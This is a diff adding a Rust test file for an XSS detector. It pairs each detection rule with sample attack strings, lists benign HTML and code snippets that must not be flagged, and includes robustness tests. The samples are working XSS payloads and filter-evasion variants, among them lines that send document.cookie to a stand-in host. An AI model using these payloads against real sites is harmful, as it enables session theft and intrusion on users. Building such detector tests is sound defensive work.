@@ -1,0 +1,293 @@
+use super::super::{ByteSet, Hits, Text};
+use super::{RULES, detect};
+
+/// The rules that `text` meets.
+fn met(text: &str) -> Vec<&'static str> {
+    let lower = text.to_ascii_lowercase();
+    let mut hits = Hits::default();
+    let bytes = ByteSet::of(text.as_bytes());
+    detect(Text { raw: text.as_bytes(), lower: lower.as_bytes(), bytes }, &mut hits);
+    hits.list().iter().map(|hit| hit.rule.id).collect()
+}
+
+/// Attacks by the rule that finds them.
+const ATTACKS: &[(&str, &[&str])] = &[
+    (
+        "xss-script-tag",
+        &[
+            "<script>steal()</script>",
+            "<ScRiPt >x=1</sCrIpT>",
+            "<script/y>steal()",
+            "<script\n>steal()</script\n>",
+            "<<script>steal()//",
+            "<script a=\">\">steal()</script>",
+            "<script>/* hm */steal()</script>",
+            "<script>onerror=steal;throw 1</script>",
+            "<script>import'//x.example'</script>",
+            "<script src=//x.example>",
+            "<script a='>' src=//x.example></script>",
+            "<svg><script xlink:href=data:,steal()>",
+            "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>steal()</x:script>",
+            "<script type=module>import('//x.example')",
+            "<scr<script>ipt>steal()</script>",
+        ],
+    ),
+    (
+        "xss-event-handler",
+        &[
+            "<img src onerror=steal()>",
+            "<svg/onload=steal()>",
+            "<x onclick=steal()>",
+            "<b\tonmouseover\n=\n'steal()'>",
+            "<img src=x onerror=steal``>",
+            "<img title='>' onerror=steal()>",
+            "<body onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(1)>",
+            "<video><source onerror=location='//x.example'>",
+            "<p/onnewevent=steal()>",
+            "\" onfocus=steal() autofocus x=\"",
+            "'onmouseover='alert(1)",
+            "x\"/onclick=alert`1`//",
+            "onload=alert(1)>",
+            "<noscript><p title=\"</noscript><img src onerror=steal()>\">",
+            "<img src=x onError={steal()}>",
+            "<a href=x ontoggle=\"top['al'+'ert'](1)\">",
+        ],
+    ),
+    (
+        "xss-javascript-uri",
+        &[
+            "javascript:steal()",
+            "<a href=javascript:steal()>",
+            "<a href=' JaVaScRiPt:steal()'>",
+            "<a href='java\nscr\tipt:steal()'>",
+            "<a href=\"\u{1}javascript:steal()\">",
+            "<a href=\"javascript:'x';steal()\">",
+            "<form action=javascript:alert`1`>",
+            "<svg><a xlink:href=javascript:throw/x/>",
+            "[click](javascript:steal())",
+            "javascript://%0asteal()",
+            "javascript:/*-/*`/*\\`/*'/*\"/**/(alert())//",
+            "javascript: alert(1)",
+            "<button formaction=//x.example>",
+        ],
+    ),
+    (
+        "xss-data-uri",
+        &[
+            "data:text/html,<b>hi",
+            "<iframe src='data:text/html;base64,PHN2Zy9vbmxvYWQ9YWxlcnQoMSk+'>",
+            "<script src=data:,steal()>",
+            "<use href='data:image/svg+xml,<svg id=x onload=steal()>#x'>",
+            "<svg><use href=//x.example/y.svg#z>",
+        ],
+    ),
+    ("xss-vbscript-uri", &["<a href=vbscript:msgbox(1)>", "vbscript:msgbox(1)"]),
+    (
+        "xss-expression",
+        &[
+            "<b style='width:expression(steal())'>",
+            "<b style='x:exp/**/ression(steal())'>",
+            "<b style='x:e\\xpression(steal())'>",
+            "<b style=behavior:url(#x)>",
+            "<style>*{-moz-binding:url(//x.example)}</style>",
+        ],
+    ),
+    ("xss-iframe", &["<iframe src=//x.example>", "<iframe srcdoc='<b onclick=steal()>'>", "<frame src=x>"]),
+    ("xss-object-embed", &["<object data=x>", "<embed src=//x.example>", "<applet code=x.class>"]),
+    ("xss-base", &["<base href=//x.example/>"]),
+    (
+        "xss-meta",
+        &[
+            "<meta http-equiv=refresh content='0;url=//x.example'>",
+            "<meta content='0;url=data:text/html,x' http-equiv=refresh>",
+            "<meta http-equiv=set-cookie content='a=b'>",
+            "<meta charset=utf-7>",
+        ],
+    ),
+    (
+        "xss-animation",
+        &["<svg><animate attributeName=href values=//x>", "<set attributename='onclick' to=steal()>"],
+    ),
+    ("xss-clobbering", &["<form><input name=attributes>", "<img id='cookie'>"]),
+    ("xss-dangling-markup", &["<img src='//x.example/?leak="]),
+    (
+        "xss-include",
+        &["<!--#exec cmd=\"id\" -->", "<!--# include virtual=\"/x\"-->", "<esi:include src=//x/>"],
+    ),
+    (
+        "xss-import",
+        &[
+            "<style>@import '//x.example/y.css';</style>",
+            "<style>@\\import 'java\\script:steal()'</style>",
+            "<link rel=import href=x>",
+        ],
+    ),
+    ("xss-utf7", &["+ADw-script+AD4-steal()+ADw-/script+AD4-"]),
+    (
+        "xss-js-break-out",
+        &[
+            "';alert(1)//",
+            "'-alert(1)-'",
+            "\"+confirm(1)+\"",
+            "\\';prompt(1)//",
+            "'});confirm(1);({'",
+            "});alert(1);//",
+            "${alert(1)}",
+            "x';alert(1);y='",
+            "a1b2;alert(1)//c3",
+            "'-top.alert(1)-'",
+        ],
+    ),
+    (
+        "xss-js-call",
+        &[
+            "alert(1)",
+            "alert(document.domain)",
+            "confirm`1`",
+            "(alert)(1)",
+            "alert?.(1)",
+            "alert.call(null,1)",
+            "[1].find(alert)",
+            "top['al'+'ert'](1)",
+            "self[/al/.source+/ert/.source](1)",
+        ],
+    ),
+    (
+        "xss-js-exfiltration",
+        &["fetch('//x.example/?'+document.cookie)", "location='//x.example/?'+document.cookie"],
+    ),
+    (
+        "xss-js-eval",
+        &[
+            "eval(atob('c3RlYWwoKQ=='))",
+            "eval(String.fromCharCode(97))",
+            "setTimeout('alert(1)')",
+            "[].constructor.constructor('alert(1)')()",
+            "document.write('<script src=//x.example>')",
+        ],
+    ),
+];
+
+/// What people and programs say that looks like it from afar.
+const BENIGN: &[&str] = &[
+    "use <b> and <script> tags in the header",
+    "`<script>`, `</script>`",
+    "The <script> element (see the manual) loads JavaScript",
+    "put it between <script> and </script> (or in a file)",
+    "I <3 you :-)",
+    "h2<h1",
+    "if (a < b && c > d) return x;",
+    "JavaScript: Basics of JavaScript Language",
+    "JavaScript: the good parts",
+    "Learn JavaScript: alert() is the first function people see",
+    "You can use onclick= or addEventListener",
+    "in HTML, onclick=\"...\" is an attribute",
+    "<button onClick={handleClick}>Save</button>",
+    "<Button onPress={() => navigate('Home')} title=\"Go\" />",
+    "<input onChange={e => setName(e.target.value)} />",
+    "<Foo onChange={(v) => { setV(v); submit(); }} />",
+    "const onLoad = useCallback(() => {}, []);",
+    "window.onload = function () { init(); };",
+    "el.onclick = () => doIt();",
+    "<a href=\"https://example.com/?once=1&online=true\">link</a>",
+    "<img src=\"cat.png\" alt=\"a cat\">",
+    "<p style=\"color: red; width: calc(100% - 10px)\">x</p>",
+    "std::vector<std::string> names(10);",
+    "Map<String, List<Integer>> m = new HashMap<>();",
+    "https://example.com/path?on=1&onetime=2#frag",
+    "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAUA",
+    "the data: text/html is a type",
+    "Content-Type: text/html; charset=utf-8",
+    "alert the team (now)",
+    "alert (bell)",
+    "Please confirm (by Friday) that you got it",
+    "prompt: write a poem about cats",
+    "what does `alert('x')` do?",
+    "passed to `--eval` (or `-e`), or piped to `node`",
+    "### `rl.setPrompt(prompt)`",
+    "<a href=\"javascript:void(0)\">menu</a>",
+    "<a href=\"javascript:;\">x</a>",
+    "npm run javascript:build",
+    "`<iframe>` and `<object>` are embedded content",
+    "<svg width=\"10\"><circle cx=\"5\" cy=\"5\" r=\"4\"/></svg>",
+    "<svg><use href=\"#icon\"/></svg>",
+    "<meta name=\"viewport\" content=\"width=device-width, initial-scale=1\">",
+    "<link rel=\"stylesheet\" href=\"style.css\">",
+    "<base href=\"/\">",
+    "<style>body { color: red; background: url(img.png) }</style>",
+    "color: expression of joy",
+    "if (confirm(\"Sure?\")) { remove(); }",
+    "$('#a').click(function(){ alert('hi'); });",
+    "setTimeout(() => done(), 100)",
+    "await fetch('/api/items').then(r => r.json())",
+    "<xs:element name=\"online\" type=\"xs:boolean\"/>",
+    "<form action=\"/login\" method=\"post\"><input name=\"user\"></form>",
+    "<user@example.com> wrote: hi",
+    "<!-- a comment -->",
+    "type Props = { onChange?: (v: string) => void };",
+];
+
+#[test]
+fn each_attack_meets_its_rule() {
+    let attacks = ATTACKS.iter().flat_map(|(rule, attacks)| attacks.iter().map(move |attack| (rule, attack)));
+    let missed: Vec<_> = attacks
+        .filter(|(rule, attack)| !met(attack).contains(rule))
+        .map(|(rule, attack)| (rule, attack, met(attack)))
+        .collect();
+    assert_eq!(missed, []);
+}
+
+#[test]
+fn each_rule_has_an_attack() {
+    for rule in RULES {
+        assert!(ATTACKS.iter().any(|(id, attacks)| *id == rule.id && !attacks.is_empty()), "{}", rule.id);
+    }
+}
+
+#[test]
+fn talk_about_html_is_none() {
+    let found: Vec<_> =
+        BENIGN.iter().filter(|text| !met(text).is_empty()).map(|text| (text, met(text))).collect();
+    assert_eq!(found, []);
+}
+
+#[test]
+fn a_handler_of_any_element_and_event_is_found() {
+    let events = ["onabort", "onbegin", "oncontentvisibilityautostatechange", "onwheel", "onneverheardof"];
+    for element in ["a", "b", "details", "my-element", "svg:g", "image2", "x"] {
+        for event in events {
+            for space in [" ", "/", "\t", "\n", "\x0c", " a=b ", " a='b'", "/a=\"b\"/"] {
+                for value in
+                    ["steal()", "'steal()'", "\"steal()\"", "steal``", "&#97;lert(1)", "{steal()}", "x=y"]
+                {
+                    let text = format!("<{element}{space}{event}={value}>");
+                    assert_eq!(met(&text), ["xss-event-handler"], "{text}");
+                }
+            }
+        }
+    }
+}
+
+#[test]
+fn an_address_that_is_code_is_found_in_any_attribute() {
+    for attribute in
+        ["href", "src", "action", "formaction", "xlink:href", "background", "poster", "to", "values"]
+    {
+        for scheme in ["javascript:", "java\tscript:", " javascript:", "JAVASCRIPT :", "vbscript:"] {
+            let text = format!("<x {attribute}=\"{scheme}steal()\">");
+            assert!(!met(&text).is_empty(), "{text}");
+        }
+    }
+}
+
+#[test]
+fn any_cut_of_any_attack_is_looked_at_without_a_panic() {
+    for (_, attacks) in ATTACKS {
+        for attack in *attacks {
+            for (cut, _) in attack.char_indices() {
+                let (head, tail) = attack.split_at(cut);
+                let _ = (met(head), met(tail));
+            }
+        }
+    }
+}
